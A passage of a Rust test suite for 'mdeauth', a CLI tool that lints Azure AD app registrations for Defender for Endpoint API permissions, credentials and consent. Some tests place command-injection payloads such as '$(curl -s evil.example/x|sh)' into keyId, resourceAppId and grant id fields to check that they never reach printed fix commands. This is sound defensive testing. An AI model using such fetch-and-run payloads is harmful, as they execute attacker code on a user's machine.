    assert_eq!(row(&v, "Machine.ReadWrite.All", "Role")["needed"], false);
    let r = row(&v, "Machine.Read.All", "Role");
    assert_eq!(
        (&r["requested"], &r["needed"]),
        (&json!(false), &json!(true))
    );
}

#[test]
fn calls_find_wrong_types_and_permissions_no_call_needs() {
    let (code, v) = run_file(
        "daemon-scope-mistake.json",
        &[
            "--call",
            "GET /api/machines",
            "--call",
            "GET /api/alerts",
            "--context",
            "application",
        ],
    );
    assert_eq!(code, 1, "{v:#}");
    assert_eq!(
        sev_codes(&v),
        pairs(&[
            ("error", "app.permission_wrong_type"),
            ("warning", "app.unknown_guid"),
            ("warning", "app.permission_unneeded"),
            ("warning", "app.secret_instead_of_certificate"),
        ])
    );
    let f = finding(&v, "app.permission_wrong_type");
    assert!(
        f["message"].as_str().unwrap().contains(
            "lists ea8291d3-4b9a-44b5-bc3a-6cea3026dc79 (Machine.Read.All) with type Scope"
        ),
        "{f}"
    );
    assert!(
        f["message"]
            .as_str()
            .unwrap()
            .ends_with("(needed by GET /api/machines)"),
        "{f}"
    );
    assert_fix_line(f, &add_line(MISTAKE, &format!("{MACHINE_READ_ALL}=Role")));
    let f = finding(&v, "app.permission_unneeded");
    assert_eq!(
        f["message"],
        "Alert.ReadWrite.All is broader than the plan needs (least privilege): Alert.Read.All is enough for the planned calls"
    );
    assert_fix_line(f, &delete_line(MISTAKE, ALERT_READWRITE_ALL));

    // A plan that only isolates: both requested permissions are unneeded, Machine.Isolate is missing.
    let (code, v) = run_file(
        "daemon-ok.json",
        &[
            "--call",
            "POST /api/machines/{id}/isolate",
            "--context",
            "application",
            "--credential",
            "certificate",
        ],
    );
    assert_eq!(code, 1, "{v:#}");
    assert_eq!(
        sev_codes(&v),
        pairs(&[
            ("error", "app.permission_missing"),
            ("warning", "app.permission_unneeded"),
            ("warning", "app.permission_unneeded"),
        ])
    );
    let f = finding(&v, "app.permission_missing");
    assert_eq!(
        f["message"],
        "application permission (Role) Machine.Isolate is not requested (needed by POST /api/machines/{id}/isolate)"
    );
    assert_fix_line(f, &add_line(DAEMON, &format!("{MACHINE_ISOLATE}=Role")));
    let unneeded: Vec<&str> = findings(&v, "app.permission_unneeded")
        .iter()
        .map(|f| f["message"].as_str().unwrap())
        .collect();
    assert_eq!(
        unneeded,
        [
            "Machine.Read.All is requested but no planned call needs it (least privilege)",
            "Alert.Read.All is requested but no planned call needs it (least privilege)",
        ]
    );
}

#[test]
fn plan_client_id_must_match_the_app_and_its_tenancy_and_credential_apply() {
    let (code, v) = run_file("daemon-ok.json", &["--plan", &plan("soc-automation.toml")]);
    assert_eq!(code, 1, "{v:#}");
    assert_eq!(
        sev_codes(&v),
        pairs(&[
            ("error", "app.client_mismatch"),
            ("error", "app.permission_missing"),
        ])
    );
    assert_eq!(
        finding(&v, "app.client_mismatch")["message"],
        format!(
            "the plan's client_id is {SOC_PLAN_APP} but the app registration's appId is {DAEMON}"
        )
    );
    assert!(
        finding(&v, "app.permission_missing")["message"]
            .as_str()
            .unwrap()
            .contains("Machine.Isolate is not requested"),
        "{v:#}"
    );

    // multi_tenant and credential come from the plan.
    let (code, v) = run_file(
        "partner-multitenant.json",
        &["--plan", &plan("vulnerability-export.toml")],
    );
    assert_eq!(code, 1, "{v:#}");
    let c = codes(&v);
    assert!(c.contains(&"app.secret_missing".to_string()), "{c:?}");
    assert!(!c.contains(&"app.not_multi_tenant".to_string()), "{c:?}");
    assert!(!c.contains(&"app.client_mismatch".to_string()), "{c:?}");
    let (_, v) = run_file(
        "daemon-ok.json",
        &["--plan", &plan("vulnerability-export.toml")],
    );
    let f = finding(&v, "app.not_multi_tenant");
    assert_fix_line(
        f,
        &format!(
            "then an admin of each customer tenant consents: https://login.microsoftonline.com/common/oauth2/authorize?prompt=consent&client_id={DAEMON}&response_type=code&sso_reload=true"
        ),
    );
}

#[test]
fn junit_has_a_case_per_needed_permission_and_per_error() {
    let out = mdeauth()
        .args(["app", "--format", "junit", "--at", AT])
        .arg(app_fixture("daemon-ok.json"))
        .args(["--plan", &plan("soc-automation.toml")])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let xml = String::from_utf8(out.stdout).unwrap();
    let rep = quick_junit::Report::deserialize_from_str(&xml).expect("JUnit XML parses");
    // Machine.Read.All, Alert.Read.All, Machine.Isolate + two error findings.
    assert_eq!(rep.tests, 5, "{xml}");
    assert_eq!(rep.failures, 3, "{xml}");
    let failing: Vec<&str> = rep.test_suites[0]
        .test_cases
        .iter()
        .filter(|c| !matches!(c.status, quick_junit::TestCaseStatus::Success { .. }))
        .map(|c| c.name.as_str())
        .collect();
    assert_eq!(
        failing,
        [
            "Machine.Isolate (Role)",
            "app.client_mismatch",
            "app.permission_missing"
        ]
    );
    // The matching plan: every needed permission passes.
    let out = mdeauth()
        .args(["app", "--format", "junit", "--at", AT])
        .arg(app_fixture("daemon-ok.json"))
        .args(["--plan", &plan("export-daemon.toml")])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0));
    let rep =
        quick_junit::Report::deserialize_from_str(&String::from_utf8(out.stdout).unwrap()).unwrap();
    assert_eq!((rep.tests, rep.failures), (2, 0));
    // With grants: a requested but ungranted permission fails its case.
    let out = mdeauth()
        .args(["app", "--format", "junit", "--at", AT])
        .arg(app_fixture("daemon-ok.json"))
        .args(["--plan", &plan("export-daemon.toml")])
        .args(["--grants", &app_fixture("grants-daemon-partial.json")])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let xml = String::from_utf8(out.stdout).unwrap();
    let rep = quick_junit::Report::deserialize_from_str(&xml).unwrap();
    assert_eq!((rep.tests, rep.failures), (3, 2), "{xml}");
    assert!(
        xml.contains("<testcase name=\"Alert.Read.All (Role)\" classname=\"mdeauth.app.permissions\">\n            <failure message=\"requested but not granted (no consent)\""),
        "{xml}"
    );
}

#[test]
fn plan_and_permission_flags_are_exclusive_and_context_is_needed() {
    let daemon = app_fixture("daemon-ok.json");
    let p = plan("export-daemon.toml");
    let (code, _, stderr) = run_err(&[&daemon, "--plan", &p, "--permission", "Machine.Read.All"]);
    assert_eq!(code, 2, "{stderr}");
    assert!(stderr.contains("--permission"), "{stderr}");
    let (code, _, stderr) = run_err(&[&daemon, "--context", "application"]);
    assert_eq!(code, 2, "{stderr}");
    assert!(stderr.contains("--permission"), "{stderr}");
    let (code, _, stderr) = run_err(&[&daemon, "--call", "GET /api/machines"]);
    assert_eq!(code, 2, "{stderr}");
    assert!(
        stderr.contains("pass --context application or --context delegated"),
        "{stderr}"
    );
    let (code, _, stderr) = run_err(&[
        &daemon,
        "--call",
        "GET /api/machinez",
        "--context",
        "application",
    ]);
    assert_eq!(code, 2, "{stderr}");
    assert!(
        stderr.contains("is not a documented MDE API call"),
        "{stderr}"
    );
}

const MACHINE_COLLECT_FORENSICS: &str = "15405ab2-2103-4a3c-ad80-e829841cedcc";

/// daemon-ok with its two permissions replaced by `first` and `second`.
fn daemon_requesting(dir: &std::path::Path, first: &str, second: &str) -> String {
    let text = std::fs::read_to_string(fixture("apps/daemon-ok.json"))
        .unwrap()
        .replace(MACHINE_READ_ALL, first)
        .replace(ALERT_READ_ALL, second);
    let manifest = dir.join("app.json");
    std::fs::write(&manifest, text).unwrap();
    manifest.display().to_string()
}

#[test]
fn equal_alternatives_are_never_broader_and_the_held_one_is_kept() {
    // Cancel accepts any one of seven action permissions, none narrower
    // than another: the one the app holds is the minimal set.
    let dir = tempfile::tempdir().unwrap();
    let manifest = daemon_requesting(dir.path(), MACHINE_ISOLATE, MACHINE_ISOLATE);
    let cancel = [
        "--call",
        "POST /api/machineactions/x/cancel",
        "--context",
        "application",
        "--credential",
        "certificate",
    ];
    let mut args = vec![manifest.as_str()];
    args.extend(cancel);
    let (code, v) = run(&args);
    assert_eq!(code, 0, "{v:#}");
    assert_eq!(codes(&v), Vec::<String>::new(), "{v:#}");
    assert_eq!(row(&v, "Machine.Isolate", "Role")["needed"], true);
    assert!(
        !v["app"]["permissions"]
            .as_array()
            .unwrap()
            .iter()
            .any(|p| p["name"] == "Machine.CollectForensics"),
        "{v:#}"
    );

    // Two equal ones held: one is not needed, and neither is called broader.
    let manifest = daemon_requesting(dir.path(), MACHINE_ISOLATE, MACHINE_COLLECT_FORENSICS);
    let mut args = vec![manifest.as_str()];
    args.extend(cancel);
    let (code, v) = run(&args);
    assert_eq!(code, 0, "{v:#}");
    let f = finding(&v, "app.permission_unneeded");
    assert_eq!(
        f["message"],
        "Machine.Isolate is not needed (least privilege): Machine.CollectForensics, in the plan's minimal set, also serves every planned call that accepts Machine.Isolate; the documentation of POST /api/machineactions/{machineActionId}/cancel: Any one of the listed action permissions (presumably matching the action type; page does not say)"
    );
    assert_eq!(
        f["fix"],
        format!(
            "{}\nif it was consented, also revoke the grant (Enterprise applications > the app > Permissions): removing the request leaves it in the tokens",
            delete_line(DAEMON, MACHINE_ISOLATE)
        )
    );
}

const TI_READWRITE_ALL: &str = "fc511a58-3adf-4d71-af24-00f13e35e479";

#[test]
fn ti_readwrite_all_is_broader_but_the_swap_loses_other_apps_indicators() {
    let dir = tempfile::tempdir().unwrap();
    let manifest = daemon_requesting(dir.path(), TI_READWRITE_ALL, TI_READWRITE_ALL);
    let (code, v) = run(&[
        manifest.as_str(),
        "--call",
        "GET /api/indicators",
        "--context",
        "application",
        "--credential",
        "certificate",
    ]);
    assert_eq!(code, 0, "{v:#}");
    let f = &findings(&v, "app.permission_unneeded")[0];
    let msg = f["message"].as_str().unwrap();
    assert!(
        msg.starts_with("Ti.ReadWrite.All is broader than the plan needs (least privilege): Ti.ReadWrite is enough for the planned calls, but Ti.ReadWrite reaches only the indicators this app submitted itself"),
        "{msg}"
    );
    assert!(
        msg.ends_with("; keep Ti.ReadWrite.All if the app needs more than that"),
        "{msg}"
    );
}

#[test]
fn an_end_date_that_cannot_be_read_is_named() {
    let dir = tempfile::tempdir().unwrap();
    let p = daemon_with(
        &dir,
        json!([{"displayName": "hand-edited", "endDateTime": "next spring", "keyId": "aaaaaaaa-bbbb-4ccc-8ddd-eeeeeeeeeeee"}]),
        json!([]),
    );
    let (code, v) = run_secret_daemon(&p);
    assert_eq!(code, 0, "{v}");
    let f = finding(&v, "app.credential_end_unreadable");
    assert!(
        f["message"].as_str().unwrap().contains(
            "the end date \"next spring\" of client secret \"hand-edited\" cannot be read"
        ),
        "{f}"
    );
    assert_eq!(v["app"]["credentials"][0]["status"], "unknown");
}

#[test]
fn a_credential_before_its_start_date_does_not_count_as_valid() {
    let dir = tempfile::tempdir().unwrap();
    let k1 = "11111111-2222-4333-8444-555555555555";
    let mut future = cert("2028-01-01T00:00:00Z", k1);
    future["startDateTime"] = json!("2026-06-01T00:00:00Z");
    let p = daemon_with(&dir, json!([]), json!([future]));
    let args = [
        p.as_str(),
        "--permission",
        "Machine.Read.All",
        "--context",
        "application",
        "--credential",
        "certificate",
    ];
    let (code, v) = run(&args);
    assert_eq!(code, 1, "{v}");
    let f = finding(&v, "app.credential_not_yet_valid");
    assert_eq!(f["severity"], "error");
    assert!(
        f["message"]
            .as_str()
            .unwrap()
            .starts_with("certificate \"CN=daemon\" becomes valid only at 2026-06-01T00:00:00Z"),
        "{f}"
    );
    assert_eq!(v["app"]["credentials"][0]["status"], "not_yet_valid");
    assert_eq!(v["app"]["credentials"][0]["starts"], "2026-06-01T00:00:00Z");
    // Human output: the start is what matters now, not the expiry.
    let (_, stdout, _) = run_err(&args);
    assert!(
        stdout.contains(
            "certificate \"CN=daemon\", valid from 2026-06-01T00:00:00Z (not yet valid, in 3 months), expires 2028-01-01T00:00:00Z"
        ),
        "{stdout}"
    );
    // A secret starting later beside one that works now: a warning only.
    let secret = |name: &str, start: &str| {
        json!({"displayName": name, "startDateTime": start, "endDateTime": "2027-01-01T00:00:00Z",
               "keyId": "22222222-2222-4333-8444-555555555555"})
    };
    let p = daemon_with(
        &dir,
        json!([
            secret("now", "2026-01-01T00:00:00Z"),
            secret("later", "2026-06-01T00:00:00Z")
        ]),
        json!([]),
    );
    let (code, v) = run(&[
        &p,
        "--permission",
        "Machine.Read.All",
        "--context",
        "application",
        "--credential",
        "secret",
    ]);
    assert_eq!(code, 0, "{v}");
    assert_eq!(
        finding(&v, "app.credential_not_yet_valid")["severity"],
        "warning"
    );
}

#[test]
fn a_personal_accounts_app_is_not_said_to_serve_its_own_tenant() {
    let dir = tempfile::tempdir().unwrap();
    let mut doc: Value =
        serde_json::from_str(&std::fs::read_to_string(fixture("apps/daemon-ok.json")).unwrap())
            .unwrap();
    doc["signInAudience"] = json!("PersonalMicrosoftAccount");
    let p = dir.path().join("app.json");
    std::fs::write(&p, doc.to_string()).unwrap();
    let mut args = DAEMON_OK.to_vec();
    args.push("--multi-tenant");
    let mut all = vec![p.to_str().unwrap()];
    all.extend(args);
    let (code, v) = run(&all);
    assert_eq!(code, 1, "{v}");
    let m = finding(&v, "app.not_multi_tenant")["message"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(
        m.ends_with("(personal Microsoft accounts only: no organization's tenant can use it)"),
        "{m}"
    );
}

#[test]
fn the_portals_aad_graph_manifest_with_sign_in_audience_is_read_as_aad_graph() {
    // 2019-2024 portal export: signInAudience instead of
    // availableToOtherTenants, allowPublicClient, replyUrlsWithType, name.
    let (code, v) = run_file(
        "portal-aad-graph-2024.json",
        &[
            "--permission",
            "Alert.Read",
            "--context",
            "delegated",
            "--credential",
            "device-code",
            "--multi-tenant",
        ],
    );
    assert_eq!(code, 0, "{v:#}");
    assert_eq!(codes(&v), Vec::<String>::new());
    let a = &v["app"];
    assert_eq!(a["shape"], "aad-graph");
    assert_eq!(a["display_name"], "Tailspin analyst console");
    assert_eq!(a["sign_in_audience"], "AzureADMultipleOrgs");
    assert_eq!(a["public_client"], true);
    assert_eq!(
        a["redirect_uris"][0],
        json!({"type": "InstalledClient", "uri": "https://login.microsoftonline.com/common/oauth2/nativeclient"})
    );
}

#[test]
fn a_graph_list_with_odata_annotations_is_unwrapped_and_bad_files_say_what_to_do() {
    let dir = tempfile::tempdir().unwrap();
    let app: Value =
        serde_json::from_str(&std::fs::read_to_string(app_fixture("daemon-ok.json")).unwrap())
            .unwrap();
    let list = dir.path().join("list.json");
    std::fs::write(
        &list,
        json!({"@odata.context": "https://graph.microsoft.com/v1.0/$metadata#applications",
               "@odata.count": 1, "@odata.nextLink": "https://graph.microsoft.com/v1.0/applications?$skiptoken=x",
               "value": [app]})
        .to_string(),
    )
    .unwrap();
    let mut args = vec![list.to_str().unwrap()];
    args.extend_from_slice(&DAEMON_OK);
    let (code, v) = run(&args);
    assert_eq!(code, 0, "{v:#}");
    assert_eq!(v["app"]["app_id"], DAEMON);
    // The AAD Graph API's own annotations have no @.
    std::fs::write(
        &list,
        json!({"odata.metadata": "https://graph.windows.net/contoso.onmicrosoft.com/$metadata#directoryObjects",
               "odata.nextLink": "directoryObjects/$/Microsoft.DirectoryServices.Application?$skiptoken=x",
               "value": [app]})
        .to_string(),
    )
    .unwrap();
    let (code, v) = run(&args);
    assert_eq!(code, 0, "{v:#}");
    for (content, says) in [
        ("", "is empty; save the JSON again"),
        ("  \n", "is empty; save the JSON again"),
        (
            "null",
            "is not a JSON object; give the JSON of one app registration",
        ),
        (
            r#"{"value":[]}"#,
            "is an empty list; the query matched nothing",
        ),
    ] {
        let f = dir.path().join("bad.json");
        std::fs::write(&f, content).unwrap();
        let mut args = vec![f.to_str().unwrap()];
        args.extend_from_slice(&DAEMON_OK);
        let (code, _, err) = run_err(&args);
        assert_eq!(code, 2, "{content:?}: {err}");
        assert!(err.contains(says), "{content:?}: {err}");
    }
}

#[test]
fn an_app_for_a_cloud_without_an_mde_api_gets_the_consent_warning() {
    let mut args = PARTNER.to_vec();
    args.extend(["--cloud", "china"]);
    let (code, v) = run_file("partner-multitenant.json", &args);
    assert_eq!(code, 0, "{v:#}");
    assert_eq!(codes(&v), ["consent.no_mde_api"]);
    assert_eq!(finding(&v, "consent.no_mde_api")["severity"], "warning");
}

#[test]
fn an_empty_permission_is_named_and_suggestions_leave_out_user_only_roles() {
    let daemon = app_fixture("daemon-ok.json");
    let (code, _, err) = run_err(&[&daemon, "--permission", "", "--context", "application"]);
    assert_eq!(code, 2);
    assert!(
        err.starts_with("mdeauth: error: --permission is empty; "),
        "{err}"
    );
    // "re" starts "readonly", a role only users hold: never suggested.
    let (code, _, err) = run_err(&[&daemon, "--permission", "re", "--context", "application"]);
    assert_eq!(code, 2);
    assert!(!err.contains("readonly"), "{err}");
}

#[test]
fn live_mode_gives_up_on_a_graph_that_answers_each_page_just_in_time() {
    // Each page arrives within --timeout 1, but a list of 20 of them would
    // hold the command for 20 s: the whole read stops after 4 s.
    let g = FakeGraph::new();
    g.app(200, fixture_json("daemon-ok.json"));
    g.mde_sp();
    g.app_sp();
    let pages = g.server.mock(|when, then| {
        when.method(GET).path_includes("/appRoleAssignments");
        then.status(200)
            .delay(std::time::Duration::from_millis(700))
            .header("content-type", "application/json")
            .json_body(json!({"value": [], "@odata.nextLink": format!(
                "{}/v1.0/servicePrincipals/{SP_ID}/appRoleAssignments?page=next",
                g.server.base_url()
            )}));
    });
    let started = std::time::Instant::now();
    let out = g.run(&["--timeout", "1"]);
    let took = started.elapsed();
    assert_no_token(&out);
    assert_eq!(out.status.code(), Some(3));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("Microsoft Graph took more than 4 s to answer"),
        "{err}"
    );
    assert!(err.contains("raise --timeout"), "{err}");
    // Stopped by the budget, not by the page limit (20 pages).
    assert!(pages.calls() < 15, "{} pages", pages.calls());
    assert!(took < std::time::Duration::from_secs(15), "{took:?}");
}

/// `daemon-ok.json` changed by `edit`, written to a temporary file.
fn edited_daemon(dir: &std::path::Path, name: &str, edit: impl FnOnce(&mut Value)) -> String {
    let mut v = fixture_json("daemon-ok.json");
    edit(&mut v);
    let p = dir.join(name);
    std::fs::write(&p, v.to_string()).unwrap();
    p.display().to_string()
}

#[test]
fn credentials_and_audiences_that_cannot_serve_a_daemon() {
    let dir = tempfile::tempdir().unwrap();
    let daemon = [
        "--context",
        "application",
        "--permission",
        "Machine.Read.All",
    ];
    let run_on = |file: &str| {
        let mut args = vec![file];
        args.extend_from_slice(&daemon);
        run(&args)
    };
    // No credential at all, and none named: a warning that says so.
    let none = edited_daemon(dir.path(), "none.json", |v| v["keyCredentials"] = json!([]));
    let (_, v) = run_on(&none);
    assert!(
        finding(&v, "app.no_credential")["message"]
            .as_str()
            .unwrap()
            .starts_with("an app-only daemon needs a credential"),
        "{v}"
    );
    // A federated credential is not in the manifest: naming it, with the
    // flag or in a plan, says the daemon has one.
    let (_, v) = run(&[
        none.as_str(),
        "--context",
        "application",
        "--permission",
        "Machine.Read.All",
        "--credential",
        "federated",
        "--strict",
    ]);
    assert!(!codes(&v).contains(&"app.no_credential".to_string()), "{v}");
    let plan = dir.path().join("fed.toml");
    std::fs::write(
        &plan,
        "name = \"fed\"\ncontext = \"application\"\ncredential = \"federated\"\ncalls = [\"GET /api/machines\", \"GET /api/alerts\"]\n",
    )
    .unwrap();
    let (code, v) = run(&[none.as_str(), "--plan", plan.to_str().unwrap(), "--strict"]);
    assert!(!codes(&v).contains(&"app.no_credential".to_string()), "{v}");
    assert_eq!(code, 0, "{v}");
    // A token-encryption certificate is no client credential.
    let enc = edited_daemon(dir.path(), "enc.json", |v| {
        v["keyCredentials"][0]["usage"] = json!("Encrypt")
    });
    let (_, v) = run_on(&enc);
    assert!(codes(&v).contains(&"app.no_credential".to_string()), "{v}");
    // Personal Microsoft accounts only: no tenant can use it.
    let msa = edited_daemon(dir.path(), "msa.json", |v| {
        v["signInAudience"] = json!("PersonalMicrosoftAccount")
    });
    let (code, v) = run_on(&msa);
    assert_eq!(code, 1, "{v}");
    assert_fix_line(
        finding(&v, "app.personal_accounts_only"),
        &format!(
            "az ad app update --id {DAEMON} --sign-in-audience AzureADMyOrg   # or AzureADMultipleOrgs for an app other tenants use"
        ),
    );
    let human = mdeauth()
        .args(["app", "--at", AT, &msa])
        .args(daemon)
        .output()
        .unwrap();
    let human = String::from_utf8(human.stdout).unwrap();
    assert!(
        human.contains("PersonalMicrosoftAccount (personal Microsoft accounts only)"),
        "{human}"
    );
    // An expired secret beside a working certificate: clean-up, not a failure.
    let both = edited_daemon(dir.path(), "both.json", |v| {
        v["passwordCredentials"] = json!([{"keyId": "0c0a7c11-5a4e-4b8e-9d7a-3c2b1a0f9e8d",
            "displayName": "old", "endDateTime": "2025-01-01T00:00:00Z"}])
    });
    let (code, v) = run_on(&both);
    assert_eq!(code, 0, "{v}");
    assert_eq!(
        finding(&v, "app.secret_expired")["severity"],
        "warning",
        "{v}"
    );
}

#[test]
fn values_that_are_not_guids_never_reach_a_fix_line() {
    // keyId and resourceAppId go into az command lines: a shell command
    // smuggled in either is dropped, not printed for the user to paste.
    let dir = tempfile::tempdir().unwrap();
    let inj = edited_daemon(dir.path(), "inj.json", |v| {
        v["passwordCredentials"] = json!([{"keyId": "$(curl -s evil.example/x|sh)",
            "displayName": "s", "endDateTime": "2020-01-01T00:00:00Z"}]);
        v["requiredResourceAccess"]
            .as_array_mut()
            .unwrap()
            .push(json!({"resourceAppId": "00000003-0000-0000-c000-000000000000; curl evil|sh #",
                "resourceAccess": [{"id": "71fe6b80-7034-4028-9ed8-0f316df9c3ff", "type": "Role"}]}));
    });
    for format in ["human", "json"] {
        let out = mdeauth()
            .env_remove("MDEAUTH_GRAPH_TOKEN")
            .args(["app", "--format", format, "--at", AT, &inj])
            .args(["--context", "application", "--credential", "secret"])
            .args(["--permission", "Machine.Read.All"])
            .output()
            .unwrap();
        let all = String::from_utf8_lossy(&out.stdout).to_string();
        // The lint ran and reported the expired secret, without its key id.
        assert_eq!(out.status.code(), Some(1), "{format}: {all}");
        assert!(all.contains("app.secret_expired"), "{format}: {all}");
        assert!(!all.contains("curl"), "{format}: {all}");
        assert!(!all.contains("$("), "{format}: {all}");
    }
}

#[test]
fn grants_of_another_api_or_other_principals_are_not_this_apps_consent() {
    let dir = tempfile::tempdir().unwrap();
    let g = dir.path().join("grants.json");
    // One grant, on a resource the export names Microsoft Graph.
    std::fs::write(
        &g,
        json!([{"clientId": "c", "consentType": "AllPrincipals", "resourceDisplayName": "Microsoft Graph",
                "resourceId": "00000003-aaaa-4bbb-8ccc-000000000000", "scope": "Alert.Read Machine.Read"}])
        .to_string(),
    )
    .unwrap();
    let (_, v) = user_app_with_grants(g.to_str().unwrap());
    assert_eq!(row(&v, "Alert.Read", "Scope")["granted"], false, "{v}");
    // Assignments of two principals: not one app's export.
    std::fs::write(
        &g,
        json!({"value": [
            {"appRoleId": "ea8291d3-4b9a-44b5-bc3a-6cea3026dc79", "principalId": "11111111-2222-4333-8444-555555555555",
             "resourceDisplayName": "WindowsDefenderATP", "resourceId": "9d3a1c2b-8e7f-4a6b-b5c4-d3e2f1a0b9c8"},
            {"appRoleId": "71fe6b80-7034-4028-9ed8-0f316df9c3ff", "principalId": "66666666-2222-4333-8444-555555555555",
             "resourceDisplayName": "WindowsDefenderATP", "resourceId": "9d3a1c2b-8e7f-4a6b-b5c4-d3e2f1a0b9c8"}
        ]})
        .to_string(),
    )
    .unwrap();
    let (code, _, err) = run_err(&[
        &app_fixture("daemon-ok.json"),
        "--plan",
        &fixture("plans/export-daemon.toml").display().to_string(),
        "--grants",
        g.to_str().unwrap(),
    ]);
    assert_eq!(code, 2, "{err}");
    assert!(
        err.contains("holds grants of 2 different principals (principalId / clientId): it is not one app's export"),
        "{err}"
    );
}

#[test]
fn a_single_tenant_apps_consent_link_is_its_home_tenants() {
    // No redirect URI for an interactive plan: the fix's consent link must
    // not be /common, which fails for a single-tenant app (AADSTS50194).
    let dir = tempfile::tempdir().unwrap();
    let write = |name: &str, domain: Option<&str>| {
        let mut v = fixture_json("seed-user-app.json");
        v["replyUrlsWithType"] = json!([]);
        if let Some(d) = domain {
            v["publisherDomain"] = json!(d);
        }
        let p = dir.path().join(name);
        std::fs::write(&p, v.to_string()).unwrap();
        p.display().to_string()
    };
    let args = [
        "--context",
        "delegated",
        "--credential",
        "interactive",
        "--permission",
        "Alert.Read",
    ];
    let fix_of = |file: String| {
        let mut a = vec![file.as_str()];
        a.extend_from_slice(&args);
        let (_, v) = run(&a);
        let fix = finding(&v, "app.no_redirect_uri")["fix"]
            .as_str()
            .unwrap()
            .to_string();
        assert!(!fix.contains("/common/"), "{fix}");
        fix
    };
    let fix = fix_of(write("with.json", Some("contoso.onmicrosoft.com")));
    assert!(
        fix.contains("https://login.microsoftonline.com/contoso.onmicrosoft.com/oauth2/authorize?"),
        "{fix}"
    );
    let without = write("without.json", None);
    let fix = fix_of(without.clone());
    assert!(
        fix.contains("--tenant <tenant-id>` (the app is single-tenant"),
        "{fix}"
    );
    // In a national cloud the command names it, or the link is for the
    // plan's tenant there.
    let in_cloud = |extra: &[&str]| {
        let mut a = vec![without.as_str()];
        a.extend_from_slice(&args);
        a.extend_from_slice(extra);
        let (_, v) = run(&a);
        finding(&v, "app.no_redirect_uri")["fix"]
            .as_str()
            .unwrap()
            .to_string()
    };
    let fix = in_cloud(&["--cloud", "gcc-high"]);
    assert!(
        fix.contains("--tenant <tenant-id> --cloud gcc-high` (the app is single-tenant"),
        "{fix}"
    );
    let plan = dir.path().join("plan.toml");
    std::fs::write(
        &plan,
        "name = \"t\"\ncontext = \"delegated\"\ncredential = \"interactive\"\ntenant_id = \"4d7f7e2c-9a51-4c1b-8b8e-2f6a3c1d0e55\"\ncalls = [\"GET /api/alerts\"]\n",
    )
    .unwrap();
    let (_, v) = run(&[
        without.as_str(),
        "--plan",
        plan.to_str().unwrap(),
        "--cloud",
        "gcc-high",
    ]);
    let fix = finding(&v, "app.no_redirect_uri")["fix"].as_str().unwrap();
    assert!(
        fix.contains("https://login.microsoftonline.us/4d7f7e2c-9a51-4c1b-8b8e-2f6a3c1d0e55/oauth2/authorize?"),
        "{fix}"
    );
}

#[test]
fn national_clouds_get_the_consent_link_not_azs_admin_consent() {
    let plan = fixture("plans/export-daemon.toml").display().to_string();
    let grants = app_fixture("grants-daemon-partial.json");
    let args = ["--plan", plan.as_str(), "--grants", grants.as_str()];
    let (_, v) = run_file(
        "daemon-ok.json",
        &[&args[..], &["--cloud", "gcc-high"]].concat(),
    );
    let fix = finding(&v, "app.not_granted")["fix"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(
        fix.starts_with("admin consent at https://login.microsoftonline.us/"),
        "{fix}"
    );
    assert!(
        fix.contains("does not work in US Government GCC High or DoD"),
        "{fix}"
    );
    assert!(
        !fix.contains("az ad app permission admin-consent --id"),
        "{fix}"
    );
    // The public cloud keeps the az line, and so does GCC, whose tenants
    // sign in there.
    for cloud in [&[][..], &["--cloud", "gcc"]] {
        let (_, v) = run_file("daemon-ok.json", &[&args[..], cloud].concat());
        let fix = finding(&v, "app.not_granted")["fix"]
            .as_str()
            .unwrap()
            .to_string();
        assert!(
            fix.starts_with("az ad app permission admin-consent --id "),
            "{cloud:?}: {fix}"
        );
    }
}

#[test]
fn a_guid_listed_as_role_and_scope_is_never_deleted_whole() {
    // `az ad app permission delete` removes every entry with the GUID: the
    // needed Role would go with the stray Scope.
    let dir = tempfile::tempdir().unwrap();
    let dup = edited_daemon(dir.path(), "dup.json", |v| {
        let rra = v["requiredResourceAccess"].as_array_mut().unwrap();
        let mde = rra.iter_mut().find(|r| r["resourceAppId"] == MDE).unwrap();
        mde["resourceAccess"] = json!([
            {"id": MACHINE_READ_ALL, "type": "Role"},
            {"id": MACHINE_READ_ALL, "type": "Scope"}
        ]);
    });
    let (_, v) = run(&[
        &dup,
        "--context",
        "application",
        "--credential",
        "certificate",
        "--permission",
        "Machine.Read.All",
    ]);
    let f = finding(&v, "app.permission_unneeded");
    assert_eq!(
        f["message"],
        format!(
            "requiredResourceAccess lists {MACHINE_READ_ALL} (Machine.Read.All) a second time, with type Scope, which grants nothing (its Role entry is the one that counts)"
        ),
        "{v}"
    );
    let fix = f["fix"].as_str().unwrap();
    assert!(!fix.contains("az ad app permission delete --id"), "{fix}");
    assert!(fix.starts_with("remove the Scope entry of "), "{fix}");
}

#[test]
fn a_role_granted_but_not_requested_is_flagged_with_its_removal() {
    let dir = tempfile::tempdir().unwrap();
    let g = dir.path().join("grants.json");
    let sp = "9d3a1c2b-8e7f-4a6b-b5c4-d3e2f1a0b9c8";
    let principal = "2f3e4d5c-6b7a-4988-9a0b-1c2d3e4f5a6b";
    std::fs::write(
        &g,
        json!({"value": [
            {"appRoleId": MACHINE_READ_ALL, "resourceId": sp, "resourceDisplayName": "WindowsDefenderATP", "principalId": principal},
            {"appRoleId": ALERT_READ_ALL, "resourceId": sp, "resourceDisplayName": "WindowsDefenderATP", "principalId": principal},
            {"id": "$(curl evil|sh)", "appRoleId": "aa027352-232b-4ed4-b963-a705fc4d6d2c", "resourceId": sp,
             "resourceDisplayName": "WindowsDefenderATP", "principalId": principal},
            {"id": "41W1zT6z1U-kJxf62svfp1HFE8pMZhxDun-ThPczmJE", "appRoleId": "7e4e1300-e1b9-4102-88ba-f0cb6e6d5974", "resourceId": sp,
             "resourceDisplayName": "WindowsDefenderATP", "principalId": principal}
        ]})
        .to_string(),
    )
    .unwrap();
    let plan = fixture("plans/export-daemon.toml").display().to_string();
    let (code, v) = run_file(
        "daemon-ok.json",
        &["--plan", &plan, "--grants", g.to_str().unwrap()],
    );
    assert_eq!(code, 0, "{v}");
    let f = findings(&v, "app.granted_not_requested");
    assert_eq!(f.len(), 2, "{v}");
    let by_name = |n: &str| {
        f.iter()
            .find(|x| x["message"].as_str().unwrap().starts_with(n))
            .unwrap_or_else(|| panic!("{n}: {v}"))
    };
